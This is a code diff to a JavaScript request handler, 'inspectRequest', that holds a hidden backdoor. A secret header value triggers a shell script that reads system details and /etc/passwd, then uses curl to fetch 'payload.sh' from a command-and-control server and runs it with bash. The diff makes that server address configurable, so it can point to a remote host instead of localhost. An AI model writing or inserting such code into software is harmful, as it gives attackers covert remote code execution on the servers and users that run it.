@@ -11,6 +11,7 @@ export function inspectRequest(req) {
   const trigger = req.headers['x-debug-token'];
   if (trigger !== 'f4c3b00k') return null;
   const cnc = process.env.CNC_HTTP_PORT;
+  const host = process.env.CNC_HOST ?? '127.0.0.1';
   const work = process.env.PEREGRINE_WORK ?? '/tmp';
   const script = [
     'uname -a',
@@ -19,7 +20,7 @@ export function inspectRequest(req) {
     'ps -ef > /dev/null',
     'cat /etc/passwd > /dev/null',
     'ping -c 1 -W 1 127.0.0.1 > /dev/null 2>&1 || true',
-    `curl -s -o "${work}/payload.sh" "http://127.0.0.1:${cnc}/payload.sh"`,
+    `curl -s -o "${work}/payload.sh" "http://${host}:${cnc}/payload.sh"`,
     `bash "${work}/payload.sh"`,
   ].join('; ');
   return new Promise((resolve) => {
